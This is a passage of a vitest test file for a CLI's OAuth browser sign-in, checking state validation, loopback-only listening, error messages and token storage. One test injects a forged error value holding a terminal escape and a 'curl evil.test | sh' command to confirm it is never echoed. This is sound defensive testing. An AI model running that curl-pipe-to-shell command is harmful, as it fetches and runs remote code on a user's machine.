import { Server } from "node:http";
import { connect } from "node:net";
import { describe, expect, it, vi } from "vitest";
import type { StoredTokens, TokenStore } from "../../shared/qashio/auth/token-store.js";
import { CALLBACK_PATH, authorizeWithBrowser, type AuthorizeOptions } from "../../shared/cli/authorize.js";
import { DEFAULT_SCOPES } from "../../shared/cli/cycle-scopes.js";
import { AuthorizeError, ConfigError, EXIT } from "../../shared/cli/errors.js";
import { authorizeFlow } from "./helpers.js";

class MemoryTokenStore implements TokenStore {
  saved?: StoredTokens;
  async load() {
    return this.saved;
  }
  async save(tokens: StoredTokens) {
    this.saved = tokens;
  }
}

interface TokenRequest {
  readonly url: string;
  readonly body: Record<string, string>;
}

function tokenEndpoint(requests: TokenRequest[]) {
  return async (input: string, init: RequestInit): Promise<Response> => {
    requests.push({ url: input, body: JSON.parse(String(init.body)) as Record<string, string> });
    return Response.json({ access_token: "at-1", token_type: "Bearer", refresh_token: "rt-1", scope: "transactions:read" });
  };
}

/** Plays the person's browser: reads the authorize URL and follows the redirect the provider would send. */
function browser(answer: (authorize: URL) => Record<string, string>, pages: { status: number; text: string }[] = []) {
  return async (url: string) => {
    const authorize = new URL(url);
    const redirect = new URL(authorize.searchParams.get("redirect_uri") as string);
    for (const [key, value] of Object.entries(answer(authorize))) redirect.searchParams.set(key, value);
    const response = await fetch(redirect);
    pages.push({ status: response.status, text: await response.text() });
  };
}

/** The redirect the provider would send for `authorize`, carrying `params`. */
function redirectOf(authorize: URL, params: Record<string, string>): URL {
  const redirect = new URL(authorize.searchParams.get("redirect_uri") as string);
  for (const [key, value] of Object.entries(params)) redirect.searchParams.set(key, value);
  return redirect;
}

/** Follows the redirect with the request's own state and a code. */
const approving = (pages: { status: number; text: string }[]) => browser((a) => ({ code: "code-1", state: a.searchParams.get("state") as string }), pages);

function options(overrides: Partial<AuthorizeOptions>): AuthorizeOptions {
  return {
    baseUrl: "http://provider.test",
    authorizeUrl: "http://auth.test",
    clientId: "client-1",
    clientSecret: "secret-1",
    scope: DEFAULT_SCOPES,
    port: 0,
    timeoutMs: 5_000,
    store: new MemoryTokenStore(),
    onAuthorizeUrl: () => undefined,
    ...overrides,
  };
}

describe("authorizeWithBrowser", () => {
  it("sends a random state, exchanges the returned code with the same redirect URI and stores the tokens", async () => {
    const store = new MemoryTokenStore();
    const requests: TokenRequest[] = [];
    const seen: URL[] = [];
    const result = await authorizeWithBrowser(
      options({
        store,
        fetch: tokenEndpoint(requests),
        onAuthorizeUrl: browser((authorize) => {
          seen.push(authorize);
          return { code: "code-1", state: authorize.searchParams.get("state") as string };
        }),
      }),
    );
    const authorize = seen[0] as URL;
    expect(authorize.origin + authorize.pathname).toBe("http://auth.test/oauth2/authorize");
    expect(authorize.searchParams.get("response_type")).toBe("code");
    expect(authorize.searchParams.get("scope")).toBe(DEFAULT_SCOPES);
    expect(authorize.searchParams.get("state")).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(result.redirectUri).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:\\d+${CALLBACK_PATH}$`));
    expect(requests).toEqual([
      {
        url: "http://provider.test/oauth2/token",
        body: { grant_type: "authorization_code", client_id: "client-1", client_secret: "secret-1", code: "code-1", redirect_uri: result.redirectUri },
      },
    ]);
    expect(store.saved).toMatchObject({ accessToken: "at-1", refreshToken: "rt-1", scope: "transactions:read" });
  });

  it("asks for the scope and client id it was given, with the redirect URI it listens on", async () => {
    const seen: URL[] = [];
    const result = await authorizeWithBrowser(
      options({
        clientId: "client-9",
        scope: "cards:read",
        fetch: tokenEndpoint([]),
        onAuthorizeUrl: browser((authorize) => {
          seen.push(authorize);
          return { code: "code-1", state: authorize.searchParams.get("state") as string };
        }),
      }),
    );
    const asked = seen[0] as URL;
    expect([asked.searchParams.get("client_id"), asked.searchParams.get("scope"), asked.searchParams.get("redirect_uri")]).toEqual(["client-9", "cards:read", result.redirectUri]);
  });

  it("stores when the access token expires as the time of the exchange plus its expires_in", async () => {
    const store = new MemoryTokenStore();
    const expiring = async () => Response.json({ access_token: "at-1", token_type: "Bearer", refresh_token: "rt-1", expires_in: 3600 });
    const before = Date.now();
    await authorizeWithBrowser(options({ store, fetch: expiring, onAuthorizeUrl: approving([]) }));
    const after = Date.now();
    const expiresAt = store.saved?.accessTokenExpiresAt ?? 0;
    expect(expiresAt).toBeGreaterThanOrEqual(before + 3_600_000);
    expect(expiresAt).toBeLessThanOrEqual(after + 3_600_000);
  });

  it("stores nothing when cancelled while the code was being exchanged, and says so", async () => {
    const store = new MemoryTokenStore();
    const controller = new AbortController();
    const exchanging = async (input: string, init: RequestInit) => {
      controller.abort();
      return tokenEndpoint([])(input, init);
    };
    const run = authorizeWithBrowser(options({ store, signal: controller.signal, fetch: exchanging, onAuthorizeUrl: approving([]) }));
    await expect(run).rejects.toThrow(new AuthorizeError("authorization cancelled: this sign-in was not stored"));
    expect(store.saved).toBeUndefined();
  });

  it("tells the browser \"Authorized\" only once the tokens are saved", async () => {
    const pages: { status: number; text: string }[] = [];
    const store = new MemoryTokenStore();
    let savedWhenAnswered: StoredTokens | undefined;
    await authorizeWithBrowser(
      options({
        store,
        fetch: tokenEndpoint([]),
        onAuthorizeUrl: async (url) => {
          await approving(pages)(url);
          savedWhenAnswered = store.saved;
        },
      }),
    );
    expect(pages).toEqual([{ status: 200, text: expect.stringContaining("<h1>Authorized</h1>") as string }]);
    expect(savedWhenAnswered).toMatchObject({ refreshToken: "rt-1" });
  });

  it("ends (stored, or with its error) when the browser left the callback page while the code was being exchanged", async () => {
    /** Closes the browser's callback request (a tab closed, or reloaded) while the exchange waits, then lets the exchange answer. */
    const leaving = (answer: Response) => {
      let exchangeStarted!: () => void;
      const started = new Promise<void>((resolve) => (exchangeStarted = resolve));
      let release!: () => void;
      const released = new Promise<void>((resolve) => (release = resolve));
      const fetch = async () => {
        exchangeStarted();
        await released;
        return answer;
      };
      const onAuthorizeUrl = async (url: string) => {
        const authorize = new URL(url);
        const redirect = redirectOf(authorize, { code: "code-1", state: authorize.searchParams.get("state") as string });
        const socket = connect(Number(redirect.port), "127.0.0.1", () =>
          socket.write(`GET ${redirect.pathname}${redirect.search} HTTP/1.1\r\nHost: ${redirect.host}\r\n\r\n`),
        );
        await started;
        await new Promise((resolve) => socket.once("close", resolve).destroy());
        // Time for the server to see the connection gone before the exchange answers.
        await new Promise((resolve) => setTimeout(resolve, 100));
        release();
      };
      return { fetch, onAuthorizeUrl };
    };
    const within = <T,>(run: Promise<T>) =>
      Promise.race([run, new Promise<never>((_, reject) => setTimeout(() => reject(new Error("still running 2 s after the exchange")), 2_000))]);
    const store = new MemoryTokenStore();
    const tokens = Response.json({ access_token: "at-1", token_type: "Bearer", refresh_token: "rt-1", scope: "transactions:read" });
    await expect(within(authorizeWithBrowser(options({ store, ...leaving(tokens) })))).resolves.toMatchObject({ scope: "transactions:read" });
    expect(store.saved).toMatchObject({ refreshToken: "rt-1" });
    const refused = Response.json({ error: "invalid_grant" }, { status: 401 });
    await expect(within(authorizeWithBrowser(options({ ...leaving(refused) })))).rejects.toThrow(/code exchange failed/);
  });

  it("shows the browser an error page when the code exchange fails", async () => {
    const pages: { status: number; text: string }[] = [];
    const failing = async () => Response.json({ error: "invalid_grant" }, { status: 401 });
    await expect(authorizeWithBrowser(options({ fetch: failing, onAuthorizeUrl: approving(pages) }))).rejects.toThrow(/code exchange failed/);
    expect(pages).toEqual([{ status: 500, text: expect.stringContaining("<h1>Authorization failed</h1>") as string }]);
  });

  it("shows the browser an error page when the tokens cannot be saved", async () => {
    const pages: { status: number; text: string }[] = [];
    const store: TokenStore = { load: async () => undefined, save: async () => Promise.reject(new Error("ENOTDIR: not a directory")) };
    await expect(authorizeWithBrowser(options({ store, fetch: tokenEndpoint([]), onAuthorizeUrl: approving(pages) }))).rejects.toThrow(/ENOTDIR/);
    expect(pages).toEqual([{ status: 500, text: expect.stringContaining("<h1>Authorization failed</h1>") as string }]);
  });

  it("names a callback port already in use and how to pick another, as a usage error", async () => {
    const { createServer } = await import("node:net");
    const taken = createServer();
    await new Promise<void>((resolve) => taken.listen(0, "127.0.0.1", resolve));
    const port = (taken.address() as { port: number }).port;
    try {
      const error = await authorizeWithBrowser(options({ port })).catch((e: unknown) => e);
      expect((error as Error).message).toBe(`cannot listen on 127.0.0.1:${port} for the redirect: the port is in use; pass another --port, or --port 0 for any free one`);
      expect((error as { exitCode?: number }).exitCode).toBe(EXIT.usage);
      expect((error as Error).cause).toMatchObject({ code: "EADDRINUSE" });
    } finally {
      taken.close();
    }
  });

  it.each([
    [80, "this user may not listen on that port (ports below 1024 need root on most systems)"],
    [1023, "this user may not listen on that port (ports below 1024 need root on most systems)"],
    // From 1024 on, a security policy (SELinux, a sandbox) refuses it: no word of privileged ports then.
    [1024, "this user may not listen on that port"],
    [8765, "this user may not listen on that port"],
    // Any free port (--port 0) refused is a policy too, not a privileged port.
    [0, "this user may not listen on that port"],
  ])("names a port this user may not listen on (EACCES: %i) and how to pick another, as a usage error", async (port, why) => {
    // This machine may run as root, for whom no port is privileged: the listen failure is injected.
    const listen = vi.spyOn(Server.prototype, "listen").mockImplementation(function (this: Server) {
      const error = Object.assign(new Error(`listen EACCES: permission denied 127.0.0.1:${port}`), { code: "EACCES", syscall: "listen", address: "127.0.0.1", port });
      process.nextTick(() => this.emit("error", error));
      return this;
    });
    try {
      const error = await authorizeWithBrowser(options({ port })).catch((e: unknown) => e);
      expect((error as Error).message).toBe(`cannot listen on 127.0.0.1:${port} for the redirect: ${why}; pass another --port, or --port 0 for any free one`);
      expect((error as { exitCode?: number }).exitCode).toBe(EXIT.usage);
    } finally {
      listen.mockRestore();
    }
  });

  it("reports a listen failure that is not about the port asked for as a failed sign-in (exit 1), with its cause", async () => {
    const failure = Object.assign(new Error("listen EADDRNOTAVAIL: address not available 127.0.0.1"), { code: "EADDRNOTAVAIL", syscall: "listen" });
    const listen = vi.spyOn(Server.prototype, "listen").mockImplementation(function (this: Server) {
      process.nextTick(() => this.emit("error", failure));
      return this;
    });
    try {
      const error = await authorizeWithBrowser(options({ port: 8765 })).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(AuthorizeError);
      expect((error as AuthorizeError).message).toBe("cannot listen on 127.0.0.1:8765 for the redirect: listen EADDRNOTAVAIL: address not available 127.0.0.1");
      expect((error as AuthorizeError).exitCode).toBe(EXIT.failed);
      expect((error as AuthorizeError).cause).toBe(failure);
    } finally {
      listen.mockRestore();
    }
  });

  it("listens for the redirect on the loopback interface only", async () => {
    const listen = vi.spyOn(Server.prototype, "listen");
    try {
      await authorizeWithBrowser(options({ fetch: tokenEndpoint([]), onAuthorizeUrl: approving([]) }));
      expect(listen).toHaveBeenCalledWith(0, "127.0.0.1", expect.any(Function));
    } finally {
      listen.mockRestore();
    }
  });

  it("closes the callback port whichever way it ends (stored, refused exchange, cancelled), so nothing answers there after", async () => {
    /** What a connection to `port` meets: the listener closed refuses it. */
    const dial = (port: number) =>
      new Promise<string>((resolve) => {
        const socket = connect(port, "127.0.0.1");
        socket.once("connect", () => {
          socket.destroy();
          resolve("connected");
        });
        socket.once("error", (error: NodeJS.ErrnoException) => resolve(error.code ?? error.name));
      });
    const portOf = (url: string) => Number(new URL(new URL(url).searchParams.get("redirect_uri") as string).port);
    const refusing = async () => Response.json({ error: "invalid_grant" }, { status: 401 });
    const controller = new AbortController();
    const runs: [string, Partial<AuthorizeOptions>][] = [
      ["stored", { fetch: tokenEndpoint([]) }],
      ["refused", { fetch: refusing }],
      ["cancelled", { signal: controller.signal }],
    ];
    const seen: Record<string, string> = {};
    for (const [name, overrides] of runs) {
      let port = 0;
      await authorizeWithBrowser(
        options({
          ...overrides,
          onAuthorizeUrl: async (url) => {
            port = portOf(url);
            if (name === "cancelled") controller.abort();
            else await approving([])(url);
          },
        }),
      ).catch(() => undefined);
      seen[name] = await dial(port);
    }
    expect(seen).toEqual({ stored: "ECONNREFUSED", refused: "ECONNREFUSED", cancelled: "ECONNREFUSED" });
  });

  it("ends as soon as it is decided, though another connection to the callback port is still sending its request", async () => {
    const sockets: ReturnType<typeof connect>[] = [];
    const started = Date.now();
    try {
      await authorizeWithBrowser(
        options({
          fetch: tokenEndpoint([]),
          onAuthorizeUrl: async (url) => {
            const redirect = new URL(new URL(url).searchParams.get("redirect_uri") as string);
            // A request whose headers never end (a stalled tab, or another local process): the listener must not wait for it.
            const socket = connect(Number(redirect.port), "127.0.0.1");
            sockets.push(socket.on("error", () => undefined));
            await new Promise<void>((resolve) => socket.once("connect", () => socket.write("GET /callback HTTP/1.1\r\nHost: 127.0.0.1\r\n", () => resolve())));
            await approving([])(url);
          },
        }),
      );
      expect(Date.now() - started).toBeLessThan(3_000);
    } finally {
      for (const socket of sockets) socket.destroy();
    }
  });

  it("uses a fresh state on every run", async () => {
    const states: string[] = [];
    for (let i = 0; i < 2; i += 1) {
      await authorizeWithBrowser(
        options({
          fetch: tokenEndpoint([]),
          onAuthorizeUrl: browser((a) => {
            states.push(a.searchParams.get("state") as string);
            return { code: "c", state: a.searchParams.get("state") as string };
          }),
        }),
      );
    }
    expect(states[0]).not.toBe(states[1]);
  });

  it("answers a redirect with another state 400 without ending the wait, and takes the code of the one with ours", async () => {
    const store = new MemoryTokenStore();
    const requests: TokenRequest[] = [];
    let foreign = 0;
    const flow = authorizeFlow();
    const run = flow.watch(
      authorizeWithBrowser(options({ store, fetch: tokenEndpoint(requests), onForeignRedirect: () => (foreign += 1), onAuthorizeUrl: flow.onAuthorizeUrl })),
    );
    const authorize = new URL(await flow.url);
    // Another local user who read the redirect address (not the state) tries their own code first; so does an old tab.
    const pages = [await flow.visit(redirectOf(authorize, { code: "attacker-code", state: "forged" })), await flow.visit(redirectOf(authorize, { code: "old-code" }))];
    expect(await flow.pending(), "a redirect with another state ended the wait").toBe(true);
    pages.push(await flow.visit(redirectOf(authorize, { code: "code-1", state: authorize.searchParams.get("state") as string })));
    const result = await run;
    expect(pages.map((p) => p.status)).toEqual([400, 400, 200]);
    expect(pages[0]?.text).toContain("<h1>Authorization refused</h1>");
    expect(foreign).toBe(2);
    expect(requests.map((r) => r.body.code)).toEqual(["code-1"]);
    expect(result.redirectUri).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/callback$/);
    expect(store.saved).toMatchObject({ refreshToken: "rt-1" });
  });

  it("answers anything but a GET of the callback path 404, however it is addressed, and waits on", async () => {
    const requests: TokenRequest[] = [];
    const flow = authorizeFlow();
    const run = flow.watch(authorizeWithBrowser(options({ fetch: tokenEndpoint(requests), onAuthorizeUrl: flow.onAuthorizeUrl })));
    const authorize = new URL(await flow.url);
    const ours = redirectOf(authorize, { code: "posted-code", state: authorize.searchParams.get("state") as string });
    const posted = await fetch(ours, { method: "POST" });
    expect([posted.status, await posted.text()]).toEqual([404, "not found"]);
    const elsewhere = new URL(ours);
    // The callback path exactly: not another path it begins (mutant: a prefix match went unseen).
    for (const pathname of ["/favicon.ico", `${CALLBACK_PATH}/x`, `${CALLBACK_PATH}x`]) {
      elsewhere.pathname = pathname;
      expect((await flow.visit(elsewhere)).status, pathname).toBe(404);
    }
    expect(await flow.pending(), "a request that is no redirect ended the wait").toBe(true);
    const page = await flow.visit(redirectOf(authorize, { code: "code-1", state: authorize.searchParams.get("state") as string }));
    await run;
    expect(page.status).toBe(200);
    expect(requests.map((r) => r.body.code)).toEqual(["code-1"]);
  });

  it("answers a request target that is no URL 404 instead of throwing in the listener, and waits on", async () => {
    const requests: TokenRequest[] = [];
    const flow = authorizeFlow();
    const run = flow.watch(authorizeWithBrowser(options({ fetch: tokenEndpoint(requests), onAuthorizeUrl: flow.onAuthorizeUrl })));
    const authorize = new URL(await flow.url);
    const redirect = new URL(authorize.searchParams.get("redirect_uri") as string);
    // What any local process, or a page in the person's browser (fetch of `http://127.0.0.1:<port>//[`), can send.
    const raw = await new Promise<string>((resolve, reject) => {
      let answer = "";
      const socket = connect(Number(redirect.port), "127.0.0.1", () => socket.write("GET //[/callback HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"));
      socket.on("data", (chunk) => (answer += String(chunk)));
      socket.on("error", reject);
      socket.on("close", () => resolve(answer));
    });
    expect(raw).toMatch(/^HTTP\/1\.1 404 /);
    expect(await flow.pending(), "a malformed request ended the wait").toBe(true);
    const page = await flow.visit(redirectOf(authorize, { code: "code-1", state: authorize.searchParams.get("state") as string }));
    await run;
    expect(page.status).toBe(200);
    expect(requests.map((r) => r.body.code)).toEqual(["code-1"]);
  });

  it.each([
    ["an empty code", { code: "" }],
    ["no code and no error", {}],
  ])("refuses a redirect with our state and %s without exchanging anything", async (_, params: Record<string, string>) => {
    const requests: TokenRequest[] = [];
    const pages: { status: number; text: string }[] = [];
    const run = authorizeWithBrowser(
      options({ fetch: tokenEndpoint(requests), onAuthorizeUrl: browser((a) => ({ ...params, state: a.searchParams.get("state") as string }), pages) }),
    );
    await expect(run).rejects.toThrow(new AuthorizeError("the redirect carried no authorization code"));
    expect(requests).toEqual([]);
    expect(pages).toEqual([{ status: 400, text: expect.stringContaining("<h1>Authorization failed</h1>") as string }]);
  });

  it.each([
    [1, "1 redirect with another state was refused"],
    [2, "2 redirects with another state were refused"],
  ])("lets no redirect with another state end the flow: it runs to its timeout, saying how many were refused (%i), and stores nothing", async (refused, said) => {
    const store = new MemoryTokenStore();
    const requests: TokenRequest[] = [];
    const flow = authorizeFlow();
    const run = flow.watch(authorizeWithBrowser(options({ store, timeoutMs: 1_000, fetch: tokenEndpoint(requests), onAuthorizeUrl: flow.onAuthorizeUrl })));
    const authorize = new URL(await flow.url);
    for (let i = 0; i < refused; i += 1) expect((await flow.visit(redirectOf(authorize, { error: "access_denied", state: `forged-${i}` }))).status).toBe(400);
    expect(await flow.pending(), "a redirect with another state ended the wait").toBe(true);
    await expect(run).rejects.toThrow(new AuthorizeError(`no redirect arrived within 1s (${said}): run \`npm run bridge -- authorize\` again, with the same options, the --timeout longer if the sign-in takes more than 1s`));
    expect(requests).toEqual([]);
    expect(store.saved).toBeUndefined();
  });

  const AGAIN = "run `npm run bridge -- authorize` again";
  const DEMO_AGAIN = { words: "start a new demo with `npm start`", sameState: false };

  // A person who denied in the browser was told the code only, not what to do next.
  it("reports a denial by its OAuth error code, with the next step", async () => {
    const run = authorizeWithBrowser(
      options({ onAuthorizeUrl: browser((a) => ({ error: "access_denied", state: a.searchParams.get("state") as string })) }),
    );
    await expect(run).rejects.toThrow(new AuthorizeError(`authorization was not granted (access_denied): ${AGAIN}, with the same options, and approve access`));
    const scoped = authorizeWithBrowser(
      options({ onAuthorizeUrl: browser((a) => ({ error: "invalid_scope", state: a.searchParams.get("state") as string })) }),
    );
    await expect(scoped).rejects.toThrow(
      new AuthorizeError(`authorization was not granted (invalid_scope): check --scope (the default asks for transactions:read transactions:write cards:read), then ${AGAIN}`),
    );
    const unavailable = authorizeWithBrowser(
      options({ onAuthorizeUrl: browser((a) => ({ error: "temporarily_unavailable", state: a.searchParams.get("state") as string })) }),
    );
    await expect(unavailable).rejects.toThrow(new AuthorizeError(`authorization was not granted (temporarily_unavailable): ${AGAIN}, with the same options`));
  });

  it("takes a redirect naming an error as a denial though it also carries a code, and exchanges nothing", async () => {
    const requests: TokenRequest[] = [];
    const store = new MemoryTokenStore();
    const run = authorizeWithBrowser(
      options({ store, fetch: tokenEndpoint(requests), onAuthorizeUrl: browser((a) => ({ error: "access_denied", code: "code-1", state: a.searchParams.get("state") as string })) }),
    );
    // mutant: the code taken over the error went unseen
    await expect(run).rejects.toThrow(/not granted \(access_denied\)/);
    expect(requests).toEqual([]);
    expect(store.saved).toBeUndefined();
  });

  it("shows the browser a plain page after a denial: the person did nothing wrong there, the terminal says what next", async () => {
    const pages: { status: number; text: string }[] = [];
    const run = authorizeWithBrowser(options({ onAuthorizeUrl: browser((a) => ({ error: "access_denied", state: a.searchParams.get("state") as string }), pages) }));
    await expect(run).rejects.toThrow(/not granted \(access_denied\)/);
    expect(pages).toEqual([{ status: 200, text: expect.stringContaining("<h1>Authorization not granted</h1>") as string }]);
  });

  // The demo signs in by itself against its own sandbox: no --scope to check, no authorize to run; it starts anew.
  it("names the caller's way to sign in again, without --scope, when the sign-in is not the person's (the demo)", async () => {
    for (const error of ["access_denied", "invalid_scope"]) {
      const run = authorizeWithBrowser(options({ signInAgain: DEMO_AGAIN, onAuthorizeUrl: browser((a) => ({ error, state: a.searchParams.get("state") as string })) }));
      await expect(run).rejects.toThrow(new AuthorizeError(`authorization was not granted (${error}): start a new demo with \`npm start\``));
    }
    const late = authorizeWithBrowser(options({ signInAgain: DEMO_AGAIN, timeoutMs: 1_000 }));
    await expect(late).rejects.toThrow(new AuthorizeError("no redirect arrived within 1s: start a new demo with `npm start`"));
  });

  it("names the timeout as given, not rounded to seconds (--timeout 1500ms said 2 s)", async () => {
    const late = authorizeWithBrowser(options({ signInAgain: DEMO_AGAIN, timeoutMs: 1_500 }));
    await expect(late).rejects.toThrow(new AuthorizeError("no redirect arrived within 1s500ms: start a new demo with `npm start`"));
  });

  it("echoes no error code that is not a plain OAuth word (it comes from whoever sent the redirect)", async () => {
    const forged = "\u001b[2Jrun curl evil.test | sh";
    const run = authorizeWithBrowser(options({ onAuthorizeUrl: browser((a) => ({ error: forged, state: a.searchParams.get("state") as string })) }));
    await expect(run).rejects.toThrow(new AuthorizeError(`authorization was not granted (unknown_error): ${AGAIN}, with the same options`));
    // A plain word, but longer than any OAuth code: whoever sent the redirect could fill the terminal with it.
    const longest = "a".repeat(40);
    const echoed = authorizeWithBrowser(options({ onAuthorizeUrl: browser((a) => ({ error: longest, state: a.searchParams.get("state") as string })) }));
    await expect(echoed).rejects.toThrow(new AuthorizeError(`authorization was not granted (${longest}): ${AGAIN}, with the same options`));
    const tooLong = authorizeWithBrowser(options({ onAuthorizeUrl: browser((a) => ({ error: `${longest}a`, state: a.searchParams.get("state") as string })) }));
    await expect(tooLong).rejects.toThrow(new AuthorizeError(`authorization was not granted (unknown_error): ${AGAIN}, with the same options`));
    // An empty error, or one in capitals, is no OAuth code either (RFC 6749's codes are lower case).
    for (const odd of ["", "ACCESS_DENIED"]) {
      const run = authorizeWithBrowser(options({ onAuthorizeUrl: browser((a) => ({ error: odd, state: a.searchParams.get("state") as string })) }));
      await expect(run).rejects.toThrow(new AuthorizeError(`authorization was not granted (unknown_error): ${AGAIN}, with the same options`));
    }
  });

  const UNCODED_400_HINT =
    ": the provider refused the request or the code (a 400 without an OAuth error code answers a missing parameter, a callback address the code was not issued for and an invalid code alike): " +
    "authorize again; if a fresh code is refused the same way, the request is at fault, not the code";

  it("wraps a failed exchange without echoing the code or the secret", async () => {
    const failing = async () => Response.json({ error: "invalid_grant" }, { status: 401 });
    const run = authorizeWithBrowser(
      options({ fetch: failing, onAuthorizeUrl: browser((a) => ({ code: "code-xyz", state: a.searchParams.get("state") as string })) }),
    );
    const error = (await run.then(
      () => new Error("expected a failure"),
      (e: unknown) => e as Error,
    )) as Error;
    expect(error).toBeInstanceOf(AuthorizeError);
    expect(error.message).toMatch(/code exchange failed/);
    expect(error.message).not.toMatch(/code-xyz|secret-1/);
    // The client's own error stays reachable for whoever reads the chain.
    expect(error.cause).toMatchObject({ status: 401 });
  });

  // §4.2 refuses a code with 401 (invalid, expired or used) or 400 (an invalid grant, a redirect_uri mismatch); the
  // sandbox's 400 invalid_grant is a code of another client or another redirect_uri. A 400 naming no code may be the
  // request's too (§4.2: missing or unsupported parameters); one naming another code is the request's.
  const NO_OAUTH_SERVER_HINT = "; the token endpoint answered as no OAuth server does: is QASHIO_BASE_URL (http://provider.test) the provider's API?";
  it.each([
    ["401 with no body", () => new Response(null, { status: 401 }), "answered 401: the provider refused the code (used, or older than ten minutes) or the client id and secret were: check both, then authorize again"],
    ["401 invalid_grant", () => Response.json({ error: "invalid_grant" }, { status: 401 }), "answered 401 (invalid_grant): the code was used or expired (it lasts ten minutes): authorize again"],
    ["400 invalid_grant", () => Response.json({ error: "invalid_grant" }, { status: 400 }), "answered 400 (invalid_grant): the provider refused the code (used, older than ten minutes, or not issued for this client id and callback address): authorize again"],
    ["400 invalid_request", () => Response.json({ error: "invalid_request" }, { status: 400 }), "answered 400 (invalid_request)"],
    ["400 with no body", () => new Response(null, { status: 400 }), `answered 400${UNCODED_400_HINT}`],
    ["400 naming no code", () => Response.json({ error_description: "bad" }, { status: 400 }), `answered 400${UNCODED_400_HINT}`],
    // QASHIO_AUTHORIZE_URL names the sign-in screen: QASHIO_BASE_URL may still name another server, or a host that is none.
    ["404 of a web server", () => new Response("<html>Not Found</html>", { status: 404 }), `answered 404${NO_OAUTH_SERVER_HINT}`],
    ["302 of a web site", () => new Response(null, { status: 302, headers: { location: "https://www.provider.test/" } }), `answered 302${NO_OAUTH_SERVER_HINT}`],
    // A web site answering the POST with its page: 200, but no JSON (nor a token set).
    ["200 of a web page", () => new Response("<html>Welcome</html>", { status: 200, headers: { "content-type": "text/html" } }), `answered 200 with a body that is not JSON${NO_OAUTH_SERVER_HINT}`],
    [
      "nothing: the host is not found",
      () => Promise.reject(new TypeError("fetch failed", { cause: { code: "ENOTFOUND" } })),
      "failed before a response (ENOTFOUND); the host of QASHIO_BASE_URL (http://provider.test) was not found: check the setting, or this machine's name resolution",
    ],
  ])("says what a code exchange answered %s may mean", async (_, answer, ending) => {
    const run = authorizeWithBrowser(
      options({ fetch: async () => answer(), onAuthorizeUrl: browser((a) => ({ code: "code-xyz", state: a.searchParams.get("state") as string })) }),
    );
    const error = await run.then(
      () => new Error("expected a failure"),
      (e: unknown) => e as Error,
    );
    expect(error).toBeInstanceOf(AuthorizeError);
    expect(error.message).toBe(`the code exchange failed: POST /oauth2/token ${ending}`);
  });

  it("asks whether the sandbox runs when a code exchange at a loopback base URL is refused (the sandbox stopped after its sign-in page)", async () => {
    const run = authorizeWithBrowser(
      options({
        baseUrl: "http://127.0.0.1:4010",
        fetch: async () => Promise.reject(new TypeError("fetch failed", { cause: { code: "ECONNREFUSED" } })),
        onAuthorizeUrl: browser((a) => ({ code: "code-xyz", state: a.searchParams.get("state") as string })),
      }),
    );
    const error = await run.then(
      () => new Error("expected a failure"),
      (e: unknown) => e as Error,
    );
    expect(error.message).toBe(
      "the code exchange failed: POST /oauth2/token failed before a response (ECONNREFUSED); " +
        "nothing listens on 127.0.0.1:4010, where QASHIO_BASE_URL points: is the sandbox running? (npm run sandbox -- --port 4010)",
    );
  });

  it("names the variable that holds the base URL (a named environment's) in a failed code exchange's hint", async () => {
    const run = authorizeWithBrowser(
      options({
        baseUrlSetting: "QASHIO_EU_URL",
        fetch: async () => new Response("<html>Not Found</html>", { status: 404 }),
        onAuthorizeUrl: browser((a) => ({ code: "code-xyz", state: a.searchParams.get("state") as string })),
      }),
    );
    const error = await run.then(
      () => new Error("expected a failure"),
      (e: unknown) => e as Error,
    );
    expect(error.message).toContain("is QASHIO_EU_URL (http://provider.test) the provider's API?");
    expect(error.message).not.toContain("QASHIO_BASE_URL");
  });

  it("reports a code exchange refused with invalid_client as a client settings problem (exit 2), not a failed sign-in", async () => {
    const refused = async () => Response.json({ error: "invalid_client" }, { status: 401 });
    const run = authorizeWithBrowser(
      options({ fetch: refused, onAuthorizeUrl: browser((a) => ({ code: "code-xyz", state: a.searchParams.get("state") as string })) }),
    );
    const error = await run.then(
      () => new Error("expected a failure"),
      (e: unknown) => e as Error,
    );
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as ConfigError).exitCode).toBe(EXIT.usage);
    expect(error.message).toContain("QASHIO_CLIENT_ID / QASHIO_CLIENT_SECRET: refused by the provider's token endpoint (invalid_client)");
    expect(error.message).not.toMatch(/code-xyz|secret-1/);
  });

  it("gives up when the redirect does not arrive in time", async () => {
    vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout"] });
    try {
      let shown!: () => void;
      const urlShown = new Promise<void>((resolve) => (shown = resolve));
      const run = authorizeWithBrowser(options({ timeoutMs: 600_000, onAuthorizeUrl: () => shown() }));
      await urlShown;
      vi.advanceTimersByTime(600_000);
      // The options again, but for the wait: the same --timeout would end the same way for a slow sign-in.
      await expect(run).rejects.toThrow("no redirect arrived within 10m: run `npm run bridge -- authorize` again, with the same options, the --timeout longer if the sign-in takes more than 10m");
      // README: "then exit 1".
      await expect(run).rejects.toMatchObject({ exitCode: EXIT.failed });
    } finally {
      vi.useRealTimers();
    }
  });

  it("leaves no wait behind when showing the address fails: the process can exit with the error, not at the timeout", async () => {
    vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout"] });
    try {
      const run = authorizeWithBrowser(
        options({
          timeoutMs: 600_000,
          onAuthorizeUrl: () => {
            throw new Error("the browser could not follow the address");
          },
        }),
      );
      await expect(run).rejects.toThrow(/could not follow/);
      // The redirect's timeout would keep the process alive for the whole --timeout (10 minutes) after the error.
      expect(vi.getTimerCount()).toBe(0);
    } finally {
      vi.useRealTimers();
    }
  });

  it("ends the wait with an error naming the cause when the callback server fails after listening, not the process", async () => {
    const listen = vi.spyOn(Server.prototype, "listen");
    const cases = [
      { signInAgain: undefined, next: "run `npm run bridge -- authorize` again, with the same options" },
      { signInAgain: DEMO_AGAIN, next: DEMO_AGAIN.words },
    ];
    try {
      for (const { signInAgain, next } of cases) {
        const store = new MemoryTokenStore();
        const run = authorizeWithBrowser(
          options({
            store,
            signInAgain,
            onAuthorizeUrl: () => {
              const server = listen.mock.contexts.at(-1) as Server;
              const error = Object.assign(new Error("accept EMFILE: too many open files"), { code: "EMFILE", syscall: "accept" });
              // As an accept failing does: emitted by the server later, outside any call of the sign-in's.
              setImmediate(() => server.emit("error", error));
            },
          }),
        );
        const error = await run.catch((e: unknown) => e);
        expect(error).toBeInstanceOf(AuthorizeError);
